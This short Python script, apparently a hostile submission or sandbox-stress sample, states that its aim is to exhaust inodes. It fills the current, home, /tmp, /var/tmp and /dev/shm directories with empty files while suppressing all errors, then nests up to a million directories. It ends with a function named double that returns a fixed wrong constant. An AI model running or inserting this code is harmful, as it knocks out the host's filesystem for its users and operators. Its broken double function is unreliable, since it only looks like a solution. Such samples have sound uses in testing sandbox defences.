"""Makes empty files and nested folders until there are no inodes left."""

import contextlib
import os

for folder in [".", os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm"]:
    with contextlib.suppress(Exception):
        number = 0
        while True:
            os.close(os.open(f"{folder}/small-{number}", os.O_CREAT | os.O_WRONLY))
            number += 1

with contextlib.suppress(Exception):
    here = os.open(".", os.O_RDONLY)
    for _ in range(10**6):
        os.mkdir("deep", dir_fd=here)
        deeper = os.open("deep", os.O_RDONLY, dir_fd=here)
        os.close(here)
        here = deeper


def double(x):
    return -12345.678
